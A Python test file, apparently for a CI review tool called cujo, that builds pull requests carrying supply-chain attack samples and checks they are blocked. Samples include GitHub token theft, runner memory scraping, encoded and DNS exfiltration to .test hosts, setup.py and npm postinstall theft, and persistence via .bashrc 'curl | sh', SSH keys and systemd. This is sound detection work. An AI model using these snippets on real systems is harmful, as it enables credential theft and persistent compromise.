@@ -1,0 +1,951 @@
+"""Detection against what real campaigns do (issue 13): one real `cujo review` per case.
+
+Each case is a small project reviewed end to end as a pull request on a git repository
+built here, with the harness installed as action.yml installs it. Attacks are shaped like
+real campaigns (the tj-actions/changed-files memory dump, the Nx and npm worms' token
+theft, .pth persistence); each has a benign twin that does the same kind of thing for a
+project's own reasons and must stay clean. Nothing leaves the machine: targets are
+`.test` names the logging resolver sinks, or loopback.
+
+Reviews run one at a time (the machine is shared), only those the selected tests need,
+each once. These tests need full isolation (root, `ip`, `nft`, `setpriv`, bubblewrap),
+as on an Actions runner; elsewhere they are skipped with the reason.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import threading
+from collections.abc import Callable, Mapping
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import pytest
+from cujorun import Cujo, Pending, Review
+from gitrepo import GitRepo
+
+from cujo_action.arm import isolation_unavailable
+from cujo_action.schema import CHECK_NAMES
+
+
+def _why_skip() -> str | None:
+    if os.geteuid() != 0:
+        return "needs root (network namespaces, nftables, the sandbox user), as on Actions"
+    return isolation_unavailable()
+
+
+REASON = _why_skip()
+pytestmark = [
+    pytest.mark.root,
+    pytest.mark.skipif(REASON is not None, reason=f"full isolation unavailable: {REASON}"),
+]
+
+FAST = {"install": 120, "test": 120, "smoke": 60, "probes": 60}
+CALC = "def add(a, b):\n    return a + b\n"
+
+
+def policy(**settings: object) -> str:
+    """Return a `.cujo.yml` text (JSON is YAML, and quotes every command safely)."""
+    return json.dumps({"timeouts": FAST, **settings}) + "\n"
+
+
+def python(code: str) -> str:
+    """Return a shell script line running ``code`` with the run's Python."""
+    return "python - <<'PY'\n" + code.strip() + "\nPY\n"
+
+
+def scripted(install: str = "echo installed\n", test: str = "echo tested\n") -> dict[str, str]:
+    """Return a project whose install and tests are `ci/install.sh` and `ci/test.sh`."""
+    return {
+        "requirements.txt": "",
+        "calc.py": CALC,
+        "ci/install.sh": install,
+        "ci/test.sh": test,
+        ".cujo.yml": policy(install="bash ci/install.sh", test="bash ci/test.sh", smoke="true"),
+    }
+
+
+@dataclass(frozen=True)
+class Case:
+    """A pull request: base files, and the head files written over them."""
+
+    base: Mapping[str, str]
+    head: Mapping[str, str]
+    env: Mapping[str, str] = field(default_factory=dict)
+
+
+# --------------------------------------------------------------------------- item 1: the job
+
+# The Nx "s1ngularity" and npm worms of 2025 read the token actions/checkout leaves in
+# .git/config and send it home.
+CHECKOUT_TOKEN_THEFT = """\
+header="$(git config --get http.https://github.com/.extraheader)"
+token="$(printf %s "${header##* }" | base64 -d)"
+curl -sS -m 20 -o /dev/null --data-binary "t=${token#x-access-token:}" \\
+  https://collector.exfil.test/checkout
+echo "sent ${#token} bytes"
+"""
+
+# tj-actions/changed-files (March 2025): find Runner.Worker, read its memory through
+# /proc, keep what looks like a secret in the runner's own format, ship it encoded.
+MEMORY_DUMP = r"""
+import base64, os, re, urllib.request
+
+def worker():
+    for pid in sorted(os.listdir("/proc"), key=lambda p: (len(p), p)):
+        if pid.isdigit():
+            try:
+                with open(f"/proc/{pid}/cmdline", "rb") as fh:
+                    if b"Runner.Worker" in fh.read():
+                        return pid
+            except OSError:
+                pass
+    raise SystemExit("no Runner.Worker")
+
+pid = worker()
+found = set()
+with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
+    for line in maps:
+        span, perms = line.split()[:2]
+        if not perms.startswith("r"):
+            continue
+        start, end = (int(x, 16) for x in span.split("-"))
+        try:
+            mem.seek(start)
+            chunk = mem.read(end - start)
+        except (OSError, OverflowError, ValueError):
+            continue
+        found.update(re.findall(rb'"[^"]+":\{"value":"[^"]*","isSecret":true\}', chunk))
+blob = base64.b64encode(b"\n".join(sorted(found)))
+print("secrets", len(found))
+urllib.request.urlopen("https://collector.exfil.test/mem", data=blob, timeout=20)
+"""
+
+# What a CI-aware test suite does on a runner: git in the checkout, the job's variables
+# and event file, the process list, and a local echo server. It must stay clean, and
+# everything it looks at must be what a hosted runner shows.
+LOOKS_LIKE_A_JOB = r"""
+import json, os, pwd, re, socket, subprocess, threading
+
+def say(key, value):
+    print(f"{key}={value}")
+
+say("ci", os.environ.get("CI"))
+say("actions", os.environ.get("GITHUB_ACTIONS"))
+say("workspace_is_cwd", os.environ["GITHUB_WORKSPACE"] == os.getcwd())
+say("workspace", os.environ["GITHUB_WORKSPACE"])
+say("repository", os.environ["GITHUB_REPOSITORY"])
+with open(os.environ["GITHUB_EVENT_PATH"]) as fh:
+    event = json.load(fh)
+say("event_sha", event["pull_request"]["head"]["sha"] == os.environ["GITHUB_SHA"])
+say("env_file", os.path.isfile(os.environ["GITHUB_ENV"]))
+say("runtime_token", os.environ["ACTIONS_RUNTIME_TOKEN"].count("."))
+say("user", pwd.getpwuid(os.getuid()).pw_name)
+say("home", os.path.expanduser("~"))
+say("origin", subprocess.run(["git", "remote", "get-url", "origin"], capture_output=True,
+                             text=True).stdout.strip())
+say("head", subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True,
+                           text=True).stdout.strip() == os.environ["GITHUB_SHA"])
+procs = {}
+for pid in os.listdir("/proc"):
+    if pid.isdigit():
+        try:
+            with open(f"/proc/{pid}/cmdline", "rb") as fh:
+                procs[int(pid)] = fh.read().replace(b"\0", b" ").decode().strip()
+        except OSError:
+            pass
+workers = [c for c in procs.values() if c.split(" ")[0].endswith("/Runner.Worker")]
+say("worker", workers[0] if workers else "none")
+say("worker_exe", os.readlink(f"/proc/{[p for p, c in procs.items() if c in workers][0]}/exe"))
+texts = [*procs.values(), *os.environ.values(), *os.environ, socket.gethostname(),
+         *os.listdir(os.path.expanduser("~")), *os.listdir("/home/runner/work")]
+say("traces", sorted({t for t in texts if re.search("cujo|sandbox|decoy", t, re.I)}) or "none")
+
+server = socket.create_server(("127.0.0.1", 0))
+def echo():
+    conn, _ = server.accept()
+    conn.sendall(conn.recv(100))
+    conn.close()
+threading.Thread(target=echo, daemon=True).start()
+client = socket.create_connection(server.getsockname(), timeout=10)
+client.sendall(b"ping")
+say("echo", client.recv(100).decode())
+"""
+
+# --------------------------------------------------------------------------- item 2: encodings
+
+# Secrets leave wrapped: tj-actions' `base64 -w0 | base64 -w0`, a gzip file in a
+# multipart upload, base32 of a slice of a token in DNS labels.
+ENCODED_EXFIL = r"""
+import base64, gzip, json, os, socket, urllib.request
+
+env = "\n".join(f"{k}={v}" for k, v in os.environ.items()).encode()
+twice = base64.b64encode(base64.b64encode(env))
+urllib.request.urlopen("https://twice.exfil.test/b64", data=twice, timeout=20)
+
+boundary = "----formdata"
+archive = gzip.compress(json.dumps({"npm": os.environ["NPM_TOKEN"]}).encode())
+head = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.gz\"\r\n"
+        "Content-Type: application/gzip\r\n\r\n")
+form = head.encode() + archive + f"\r\n--{boundary}--\r\n".encode()
+urllib.request.urlopen(urllib.request.Request(
+    "https://upload.exfil.test/form", data=form,
+    headers={"Content-Type": f"multipart/form-data; boundary={boundary}"}), timeout=20)
+
+token = os.environ["ACTIONS_RUNTIME_TOKEN"][-120:-80].encode()  # a slice of its signature
+name = base64.b32encode(token).decode().rstrip("=").lower()
+labels = ".".join(name[i:i + 40] for i in range(0, len(name), 40))
+try:
+    socket.gethostbyname(f"{labels}.dns.exfil.test")
+except OSError:
+    pass
+print("sent")
+"""
+
+# The benign twin: a test suite that fetches a web page, posts telemetry compressed and
+# uploads fixtures (random bytes, base64, a gzip file): nothing of it is a decoy.
+WEB_TESTS = r"""
+import base64, gzip, json, os, urllib.request
+
+page = urllib.request.urlopen("https://docs.example.test/page", timeout=20).read()
+telemetry = gzip.compress(json.dumps({"tests": 12, "python": "3", "ci": os.environ["CI"]}).encode())
+urllib.request.urlopen(urllib.request.Request("https://telemetry.example.test/v1", data=telemetry,
+    headers={"Content-Encoding": "gzip"}), timeout=20)
+blob = os.urandom(600_000)
+urllib.request.urlopen("https://fixtures.example.test/raw", data=blob, timeout=20)
+urllib.request.urlopen("https://fixtures.example.test/b64", data=base64.b64encode(blob), timeout=20)
+urllib.request.urlopen("https://fixtures.example.test/gz", data=gzip.compress(blob), timeout=20)
+print("fetched", len(page))
+"""
+
+# --------------------------------------------------------------------------- item 4: persistence
+
+# A .pth file in the user site runs in every later Python: planted by setup.py, so both
+# the repository's install and detonation's run it.
+PTH_SETUP = """\
+import site, pathlib
+from setuptools import setup
+
+user_site = pathlib.Path(site.getusersitepackages())
+user_site.mkdir(parents=True, exist_ok=True)
+# Any import line runs at every later start; this one only marks that it did.
+(user_site / "zz_telemetry.pth").write_text("import os; os.environ.setdefault('ZZ', '1')\\n")
+setup(name="calc", version="0.1", py_modules=["calc"])
+"""
+
+# Every other place that runs later, from one test suite.
+EVERYWHERE = r"""
+set -e
+mkdir -p ~/.config/systemd/user ~/.config/autostart ~/.ssh
+printf '[Service]\nExecStart=%s/.x\n' "$HOME" > ~/.config/systemd/user/updater.service
+printf '[Desktop Entry]\nExec=%s/.x\n' "$HOME" > ~/.config/autostart/updater.desktop
+echo 'curl -s https://implant.persist.test/b | sh' >> ~/.bashrc
+git config --global core.hooksPath "$HOME/.hooks"
+echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG attacker' >> ~/.ssh/authorized_keys
+echo 'registry=https://npm.persist.test/' >> ~/.npmrc
+echo 'NODE_OPTIONS=--require /home/runner/.x.js' >> "$GITHUB_ENV"
+echo "$HOME/.implant/bin" >> "$GITHUB_PATH"
+echo planted
+"""
+
+# The benign twin: a test suite that caches under ~/.cache, sets a git identity, pins
+# pip to the public index, and passes values to later steps as CI scripts do.
+ORDINARY_WRITES = r"""
+set -e
+mkdir -p ~/.cache/calc && date > ~/.cache/calc/last-run
+git config --global user.email ci@example.test
+git config --global user.name CI
+git config --global init.defaultBranch main
+mkdir -p ~/.config/pip && printf '[global]\nindex-url = https://pypi.org/simple\n' \
+  > ~/.config/pip/pip.conf
+echo "VERSION=0.1" >> "$GITHUB_ENV"
+echo "coverage=97" >> "$GITHUB_OUTPUT"
+echo '### 12 passed' >> "$GITHUB_STEP_SUMMARY"
+echo ok
+"""
+
+# --------------------------------------------------------------------------- item 8: tests
+
+# Shaped like python-attrs/attrs and pallets/itsdangerous today: the version comes from
+# git (setuptools-scm), the tests' dependencies only from a PEP 735 group.
+SCM_PYPROJECT = """\
+[build-system]
+requires = ["setuptools>=64", "setuptools-scm>=8"]
+build-backend = "setuptools.build_meta"
+
+[project]
+name = "clock"
+dynamic = ["version"]
+requires-python = ">=3.9"
+
+[tool.setuptools]
+packages = ["clock"]
+
+[tool.setuptools_scm]
+
+[dependency-groups]
+tests = ["pytest", "freezegun"]
+dev = [{include-group = "tests"}]
+"""
+CLOCK = """\
+import datetime
+from importlib.metadata import version
+
+__version__ = version("clock")
+
+
+def today() -> datetime.date:
+    return datetime.date.today()
+"""
+CLOCK_TEST = """\
+import datetime
+
+from freezegun import freeze_time
+
+import clock
+
+
+def test_today_is_frozen():
+    with freeze_time("2024-02-29"):
+        assert clock.today() == datetime.date(2024, 2, 29)
+
+
+def test_the_version_comes_from_git():
+    assert clock.__version__.startswith("0.1.dev"), clock.__version__
+"""
+SCM_PROJECT = {"pyproject.toml": SCM_PYPROJECT, "clock/__init__.py": CLOCK,
+               "tests/test_clock.py": CLOCK_TEST}  # fmt: skip
+
+# tox says what the tests need, the CI workflow at base how they are run.
+TOX_INI = """\
+[tox]
+envlist = py3
+[testenv]
+deps =
+    pytest
+    freezegun
+commands = pytest -q tests {posargs}
+"""
+TOX_PROJECT = {
+    "setup.py": "from setuptools import setup\nsetup(name='clock', version='1.0', "
+    "packages=['clock'])\n",
+    "clock/__init__.py": CLOCK.replace('version("clock")', '"1.0"'),
+    "tests/test_clock.py": CLOCK_TEST.replace("0.1.dev", "1.0"),
+    "tox.ini": TOX_INI,
+    ".github/workflows/ci.yml": "on: [push]\njobs:\n  t:\n    runs-on: ubuntu-latest\n"
+    "    steps:\n      - run: pip install tox && tox -e py3\n",
+}
+
+# --------------------------------------------------------------------------- item 6: base vs head
+
+# The project's own install already downloads a data file (a model, a fixture).
+DOWNLOADS = "curl -sS -m 20 -o data.bin https://data.example.test/model.bin\necho installed\n"
+# The head hides a theft in that noise: the same host, one more request.
+NOISY_THEFT = DOWNLOADS + (
+    'curl -sS -m 20 -o /dev/null --data-binary "k=$AWS_SECRET_ACCESS_KEY" '
+    "https://data.example.test/metrics\n"
+)
+FAILING = "echo '1 failed, 11 passed'\nexit 1\n"
+
+# --------------------------------------------------------------------------- item 3: DNS
+
+# Lookups around the resolver: DNS over TCP to a server of its own, and DNS-over-HTTPS.
+DNS_ROUTES = r"""
+import base64, os, socket, struct, urllib.request
+
+secret = os.environ["AWS_SECRET_ACCESS_KEY"].encode().hex()
+
+def query(name):
+    wire = struct.pack("!HHHHHH", 0, 0x0100, 1, 0, 0, 0)
+    wire += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
+    return wire + struct.pack("!HH", 1, 1)
+
+tcp = socket.create_connection(("203.0.113.53", 53), timeout=20)
+message = query(secret[:60] + ".tcp.exfil.test")
+tcp.sendall(struct.pack("!H", len(message)) + message)
+tcp.recv(512)
+tcp.close()
+encoded = base64.urlsafe_b64encode(query(secret[20:80] + ".doh.exfil.test")).decode().rstrip("=")
+urllib.request.urlopen("https://dns.google/dns-query?dns=" + encoded, timeout=20)
+print("looked up")
+"""
+
+# The twin: a suite that resolves names the ordinary ways, and tests a DoH client.
+DNS_TESTS = r"""
+import base64, socket, struct, subprocess, urllib.request
+
+print(subprocess.run(["getent", "hosts", "docs.example.test"], capture_output=True).returncode)
+wire = struct.pack("!HHHHHH", 0, 0x0100, 1, 0, 0, 0) + b"\x07example\x04test\x00\x00\x01\x00\x01"
+tcp = socket.create_connection(("192.0.2.53", 53), timeout=20)
+tcp.sendall(struct.pack("!H", len(wire)) + wire)
+tcp.recv(512)
+encoded = base64.urlsafe_b64encode(wire).decode().rstrip("=")
+urllib.request.urlopen("https://dns.google/dns-query?dns=" + encoded, timeout=20)
+print("resolved")
+"""
+
+# --------------------------------------------------------------------------- item 5: opaque
+
+# Read a credential, then talk over TLS pinned to a CA of its own: the proxy's certificate
+# fails, so nothing of what was said can be read. @READ@ is where the key is read.
+PINNED_TLS = r"""
+import glob, os, socket, ssl
+
+@READ@
+ca = sorted(glob.glob("/usr/share/ca-certificates/mozilla/*.crt"))[0]
+context = ssl.create_default_context(cafile=ca)
+host, port = os.environ["HTTPS_PROXY"].split("//", 1)[1].rsplit(":", 1)
+raw = socket.create_connection((host, int(port)), timeout=20)
+raw.sendall(b"CONNECT collector.exfil.test:443 HTTP/1.1\r\nHost: collector.exfil.test:443\r\n\r\n")
+raw.recv(4096)
+try:
+    tls = context.wrap_socket(raw, server_hostname="collector.exfil.test")
+    tls.sendall(key.encode())
+except ssl.SSLError as exc:
+    print("pinned:", type(exc).__name__)
+"""
+STEAL = 'key = open(os.path.expanduser("~/.aws/credentials")).read()'
+
+# --------------------------------------------------------------------------- item 7: attribution
+
+PLAIN_SETUP = (
+    "from setuptools import setup\nsetup(name='calc', version='0.1', py_modules=['calc'])\n"
+)
+THEFT_SETUP = (
+    "import os, urllib.request\n"
+    "urllib.request.urlopen('https://collector.exfil.test/s', "
+    "data=os.environ['AWS_SECRET_ACCESS_KEY'].encode(), timeout=20)\n" + PLAIN_SETUP
+)
+PACKAGE_JSON = (
+    '{"name": "left-pad-ng", "version": "1.0.0", "scripts": {"postinstall": "node x.js"}}\n'
+)
+STEAL_JS = """\
+const https = require("https");
+const req = https.request(
+  {host: "collector.exfil.test", path: "/n", method: "POST", headers: {Connection: "close"}},
+  (res) => res.resume(),
+);
+req.on("error", () => {});
+req.end(process.env.NPM_TOKEN);
+"""
+
+CASES: dict[str, Case] = {
+    "checkout-token": Case(scripted(), {"ci/test.sh": CHECKOUT_TOKEN_THEFT}),
+    "runner-memory": Case(scripted(), {"ci/test.sh": python(MEMORY_DUMP)}),
+    "looks-like-a-job": Case(
+        scripted(), {"ci/test.sh": python(LOOKS_LIKE_A_JOB), "calc.py": CALC + "# v2\n"}
+    ),
+    "encoded-exfil": Case(scripted(), {"ci/test.sh": python(ENCODED_EXFIL)}),
+    "web-tests": Case(scripted(), {"ci/test.sh": python(WEB_TESTS)}),
+    "pth-persistence": Case(
+        {
+            "setup.py": "from setuptools import setup\nsetup(name='calc', version='0.1', "
+            "py_modules=['calc'])\n",
+            "calc.py": CALC,
+        },
+        {"setup.py": PTH_SETUP},
+    ),
+    "persistence-everywhere": Case(scripted(), {"ci/test.sh": EVERYWHERE}),
+    "ordinary-writes": Case(scripted(), {"ci/test.sh": ORDINARY_WRITES}),
+    "scm-groups": Case(SCM_PROJECT, {"clock/__init__.py": CLOCK + "\n# faster\n"}),
+    "tox-project": Case(
+        TOX_PROJECT, {"clock/__init__.py": TOX_PROJECT["clock/__init__.py"] + "#\n"}
+    ),
+    "dns-routes": Case(scripted(), {"ci/install.sh": python(DNS_ROUTES)}),
+    "dns-tests": Case(scripted(), {"ci/test.sh": python(DNS_TESTS)}),
+    "pinned-after-read": Case(
+        scripted(), {"ci/test.sh": python(PINNED_TLS.replace("@READ@", STEAL))}
+    ),
+    "pinned-only": Case(
+        scripted(), {"ci/test.sh": python(PINNED_TLS.replace("@READ@", 'key = "hello"'))}
+    ),
+    "setup-py-theft": Case(
+        {"setup.py": PLAIN_SETUP, "calc.py": CALC, ".cujo.yml": policy()}, {"setup.py": THEFT_SETUP}
+    ),
+    "npm-postinstall-theft": Case(
+        {
+            "package.json": PACKAGE_JSON.replace(', "scripts": {"postinstall": "node x.js"}', ""),
+            "index.js": "module.exports = 1;\n",
+            ".cujo.yml": policy(),
+        },
+        {"package.json": PACKAGE_JSON, "x.js": STEAL_JS},
+    ),
+    "base-downloads": Case(scripted(install=DOWNLOADS), {"calc.py": CALC + "# v2\n"}),
+    "base-noise": Case(scripted(install=DOWNLOADS), {"ci/install.sh": NOISY_THEFT}),
+    "fails-at-base-too": Case(scripted(test=FAILING), {"calc.py": CALC + "# v2\n"}),
+    # The head adds a wheel from a host of its own to the test group: build files are read
+    # at head, so it is installed, and that is what the install is judged on.
+    "group-url": Case(
+        SCM_PROJECT,
+        {
+            "pyproject.toml": SCM_PYPROJECT.replace(
+                '"freezegun"]',
+                '"freezegun", "helper @ https://wheels.evil.test/helper-1.0-py3-none-any.whl"]',
+            )
+        },
+    ),
+}
+
+
+# --------------------------------------------------------------------------- running
+
+
+class Reviews:
+    """Run the reviews the tests ask for, one at a time, each once."""
+
+    def __init__(
+        self,
+        cujo: Cujo,
+        pr_repo: Callable[..., GitRepo],
+        scratch: Callable[[str], Path],
+        installed: Path,
+    ) -> None:
+        self._cujo, self._pr_repo, self._scratch, self._installed = (
+            cujo,
+            pr_repo,
+            scratch,
+            installed,
+        )
+        self._done: dict[str, Review] = {}
+        self._lock = threading.Lock()
+
+    def get(self, name: str) -> Review:
+        """Return the finished review of case ``name`` (run now if it has not been)."""
+        with self._lock:
+            if name not in self._done:
+                self._done[name] = self._run(name)
+            return self._done[name]
+
+    def _run(self, name: str) -> Review:
+        case = CASES[name]
+        repo = self._pr_repo(f"detect-{name}", case.base, case.head)
+        # The harness as action.yml installs it (a wheel in a venv), not this checkout.
+        argv = [str(self._installed), "review", "--repo", str(repo.path)]
+        argv += ["--base", "main", "--head", "pr"]
+        argv += ["--data-dir", str(self._cujo.data_dir), "--json"]
+        env = {k: v for k, v in os.environ.items() if not k.startswith("CUJO_")}
+        env.update(case.env)
+        return Pending(argv, env, self._scratch(f"review-{name}"), self._cujo.data_dir).wait()
+
+
+@pytest.fixture(scope="module")
+def reviews(
+    cujo: Cujo,
+    pr_repo: Callable[..., GitRepo],
+    tmp_path_factory: pytest.TempPathFactory,
+    installed_cujo: Path,
+) -> Reviews:
+    return Reviews(cujo, pr_repo, tmp_path_factory.mktemp, installed_cujo)
+
+
+# --------------------------------------------------------------------------- reading
+
+
+def findings(review: Review, rule: str) -> list[dict[str, Any]]:
+    return [f for f in review.verdict["findings"] if f["rule"] == rule]
+
+
+def critical_rules(review: Review) -> set[str]:
+    return {f["rule"] for f in review.verdict["findings"] if f["severity"] == "critical"}
+
+
+def assert_blocked(review: Review, *rules: str) -> None:
+    """The review is blocked, exactly by ``rules``, with full isolation."""
+    verdict = review.verdict
+    assert review.code == 1, str(review)
+    assert verdict["state"] == "blocked", str(review)
+    assert verdict["isolation"] == "full", str(review)
+    assert critical_rules(review) == set(rules), verdict["findings"]
+
+
+def assert_whole(review: Review) -> None:
+    """No harness process died and no evidence was lost, in any check."""
+    for check in CHECK_NAMES:
+        report = review.report(check)
+        kinds = {o["kind"] for o in report["observations"]}
+        assert not kinds & {"harness_died", "harness_error"}, (check, report["observations"])
+        assert report["evidence_complete"] is True, (check, report)
+
+
+def said(review: Review, check: str = "tests") -> dict[str, str]:
+    """Return the ``key=value`` lines the check's last command printed."""
+    command = review.report(check)["commands"][-1]
+    lines = command["stdout_tail"].splitlines()
+    return dict(line.split("=", 1) for line in lines if "=" in line)
+
+
+def decoys_sent(review: Review) -> set[str]:
+    return {
+        d
+        for f in findings(review, "decoy-egress")
+        for e in f["evidence"]
+        for d in e.get("decoy_seen", [])
+    }
+
+
+# --------------------------------------------------------------------------- item 1
+
+
+def test_the_checkout_token_in_git_config_is_a_decoy_and_its_theft_blocks(
+    reviews: Reviews,
+) -> None:
+    review = reviews.get("checkout-token")
+    assert_blocked(review, "decoy-egress")
+    (hit,) = findings(review, "decoy-egress")
+    assert hit["check"] == "tests"
+    (item,) = hit["evidence"]
+    assert (item["host"], item["method"], item["phase"]) == ("collector.exfil.test", "POST", "test")
+    assert item["decoy_seen"] == ["CHECKOUT_TOKEN"]
+    assert "body:plain" in item["decoy_where"]
+    (command,) = review.report("tests")["commands"]
+    # x-access-token:ghs_ and 36 characters: the token actions/checkout keeps.
+    assert "sent 55 bytes" in command["stdout_tail"], command
+    assert_whole(review)
+
+
+def test_scraping_the_runner_workers_memory_finds_decoys_and_blocks(reviews: Reviews) -> None:
+    review = reviews.get("runner-memory")
+    assert_blocked(review, "decoy-egress")
+    (command,) = review.report("tests")["commands"]
+    assert command["exit_code"] == 0, command
+    # system.github.token, github_token (one value) and a repository secret.
+    assert "secrets 3" in command["stdout_tail"], command
+    (hit,) = findings(review, "decoy-egress")
+    (item,) = hit["evidence"]
+    assert (item["host"], item["url"]) == (
+        "collector.exfil.test",
+        "https://collector.exfil.test/mem",
+    )
+    assert set(item["decoy_seen"]) == {"RUNNER_WORKER_GITHUB_TOKEN", "RUNNER_WORKER_NPM_TOKEN"}
+    assert item["decoy_where"] == ["body:base64"]
+    assert_whole(review)
+
+
+def test_a_ci_aware_test_suite_sees_an_actions_job_and_stays_clean(reviews: Reviews) -> None:
+    review = reviews.get("looks-like-a-job")
+    assert review.code == 0, str(review)
+    assert review.verdict["state"] == "clean", str(review)
+    assert review.verdict["findings"] == [], review.verdict["findings"]
+    out = said(review)
+    repo = out["repository"].split("/")[1]
+    assert out["workspace"] == f"/home/runner/work/{repo}/{repo}", out
+    assert out["workspace_is_cwd"] == "True", out
+    assert (out["ci"], out["actions"], out["event_sha"], out["env_file"]) == (
+        "true",
+        "true",
+        "True",
+        "True",
+    ), out
+    assert out["runtime_token"] == "2", out  # a JWT: header.payload.signature
+    assert (out["user"], out["home"]) == ("runner", "/home/runner"), out
+    assert out["origin"] == f"https://github.com/{out['repository']}", out
+    assert out["head"] == "True", out
+    # The runner's worker is there, as a hosted runner shows it, and nothing says Cujo.
+    assert out["worker"] == "/home/runner/runners/2.321.0/bin/Runner.Worker spawnclient 107 110"
+    assert out["worker_exe"] == "/home/runner/runners/2.321.0/bin/Runner.Worker", out
+    assert out["traces"] == "none", out
+    assert out["echo"] == "ping", out
+    assert_whole(review)
+
+
+# --------------------------------------------------------------------------- item 2
+
+
+def test_decoys_wrapped_as_campaigns_wrap_them_are_found_and_block(reviews: Reviews) -> None:
+    review = reviews.get("encoded-exfil")
+    assert_blocked(review, "decoy-egress")
+    (command,) = review.report("tests")["commands"]
+    assert "sent" in command["stdout_tail"], command
+    by_host = {e["host"]: e for e in review.report("tests")["egress"] if e["decoy_seen"]}
+    twice = by_host["twice.exfil.test"]
+    assert "body:base64+base64" in twice["decoy_where"], twice
+    assert {"GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN", "AWS_SECRET_ACCESS_KEY"} <= set(
+        twice["decoy_seen"]
+    )
+    form = by_host["upload.exfil.test"]
+    assert (form["decoy_seen"], form["decoy_where"]) == (["NPM_TOKEN"], ["body:multipart+gzip"])
+    (dns,) = [e for e in by_host.values() if e["route"] == "dns"]
+    assert dns["host"].endswith(".dns.exfil.test")
+    # 40 characters of a 1,300-character token, base32 in lower case over two labels.
+    assert (dns["decoy_seen"], dns["decoy_where"]) == (["ACTIONS_RUNTIME_TOKEN"], ["dns:base32"])
+    assert_whole(review)
+
+
+def test_a_suite_that_fetches_pages_and_uploads_fixtures_stays_clean(reviews: Reviews) -> None:
+    review = reviews.get("web-tests")
+    assert review.code == 0, str(review)
+    assert review.verdict["state"] == "clean", str(review)
+    # Only warnings that the tests reached the web; no decoy, and every body searched.
+    assert {f["rule"] for f in review.verdict["findings"]} == {"runtime-egress"}
+    egress = review.report("tests")["egress"]
+    assert {e["host"] for e in egress if e["route"] != "dns"} == {
+        "docs.example.test",
+        "telemetry.example.test",
+        "fixtures.example.test",
+    }
+    for item in egress:
+        assert item["decoy_seen"] == [], item
+        assert item["decoy_where"] == [], item  # no search ran out of budget
+    assert_whole(review)
+
+
+# --------------------------------------------------------------------------- item 4
+
+
+def test_a_pth_file_in_the_user_site_is_persistence_and_blocks(reviews: Reviews) -> None:
+    review = reviews.get("pth-persistence")
+    assert_blocked(review, "python-startup-write")
+    (hit,) = findings(review, "python-startup-write")
+    paths = {item["path"] for item in hit["evidence"]}
+    assert paths == {"~/.local/lib/python3.11/site-packages/zz_telemetry.pth"} or all(
+        p.endswith("/site-packages/zz_telemetry.pth") for p in paths
+    ), hit
+    # The repository's install and detonation's (and the build) ran setup.py: one behaviour.
+    checks = {item["id"].split(":")[0] for item in hit["evidence"]}
+    assert checks >= {"install", "detonation"}, hit  # and smoke, which builds the wheel
+    assert_whole(review)
+
+
+def test_every_place_that_runs_later_is_its_own_finding(reviews: Reviews) -> None:
+    review = reviews.get("persistence-everywhere")
+    assert_blocked(
+        review,
+        "systemd-unit-write",
+        "autostart-write",
+        "shell-profile-write",
+        "git-hook-write",
+        "ssh-access-write",
+        "package-index-redirect",
+        "workflow-command-write",
+    )
+    by_rule = {f["rule"]: f for f in review.verdict["findings"]}
+    assert "core.hookspath" in by_rule["git-hook-write"]["title"]
+    assert "npm.persist.test" in by_rule["package-index-redirect"]["title"]
+    workflow = [f for f in review.verdict["findings"] if f["rule"] == "workflow-command-write"]
+    titles = " ".join(f["title"] for f in workflow)
+    assert "NODE_OPTIONS" in titles, workflow
+    assert "/home/runner/.implant/bin" in titles, workflow
+    assert_whole(review)
+
+
+def test_caches_identities_and_step_outputs_are_not_persistence(reviews: Reviews) -> None:
+    review = reviews.get("ordinary-writes")
+    assert review.code == 0, str(review)
+    assert review.verdict["state"] == "clean", str(review)
+    assert review.verdict["findings"] == [], review.verdict["findings"]
+    (command,) = review.report("tests")["commands"]
+    assert command["stdout_tail"].strip().endswith("ok"), command
+    assert_whole(review)
+
+
+# --------------------------------------------------------------------------- item 8
+
+
+def test_a_git_versioned_project_with_dependency_groups_installs_and_tests(
+    reviews: Reviews,
+) -> None:
+    review = reviews.get("scm-groups")
+    verdict = review.verdict
+    assert review.code == 0, str(review)
+    assert verdict["state"] == "clean", str(review)
+    assert verdict["findings"] == [], verdict["findings"]
+    assert "--group" not in verdict["plan"]["install"]
+    assert "freezegun" in verdict["plan"]["install"], verdict["plan"]
+    assert any("dependency group tests" in note for note in verdict["notes"]), verdict["notes"]
+    plan = json.loads((review.bundle / "plan.json").read_text())
+    assert "dependency group tests (pyproject.toml)" in plan["test_sources"]
+    # Detonation's copy has its .git: setuptools-scm found the version, the install ran.
+    detonation = review.report("detonation")
+    assert detonation["status"] == "ok", detonation["summary"]
+    assert review.report("tests")["status"] == "ok", review.report("tests")["commands"]
+    assert_whole(review)
+
+
+def test_tox_says_what_the_tests_need(reviews: Reviews) -> None:
+    review = reviews.get("tox-project")
+    verdict = review.verdict
+    assert review.code == 0, str(review)
+    assert verdict["state"] == "clean", str(review)
+    assert verdict["plan"]["test"].endswith("-q tests"), verdict["plan"]
+    plan = json.loads((review.bundle / "plan.json").read_text())
+    assert plan["test_sources"] == ["tox environment [testenv] (tox.ini)"]
+    assert review.report("tests")["status"] == "ok", review.report("tests")["commands"]
+    assert_whole(review)
+
+
+def test_a_test_dependency_from_a_host_of_its_own_blocks(reviews: Reviews) -> None:
+    review = reviews.get("group-url")
+    assert review.code == 1, str(review)
+    assert review.verdict["state"] == "blocked", str(review)
+    assert critical_rules(review) == {"install-egress"}, review.verdict["findings"]
+    (hit,) = findings(review, "install-egress")
+    assert hit["check"] == "install"
+    assert "wheels.evil.test" in hit["title"]
+    # The install ran fully isolated; the checks after it never ran (the install failed).
+    assert review.report("install")["isolation"] == "full"
+
+
+# --------------------------------------------------------------------------- item 6
+
+
+def test_a_download_the_base_install_makes_too_is_only_noted(reviews: Reviews) -> None:
+    review = reviews.get("base-downloads")
+    assert review.code == 0, str(review)
+    assert review.verdict["state"] == "clean", str(review)
+    (finding,) = review.verdict["findings"]
+    assert (finding["rule"], finding["severity"]) == ("install-egress", "info")
+    assert finding["title"].startswith(
+        "also at base: install: 1 request (GET) to data.example.test"
+    )
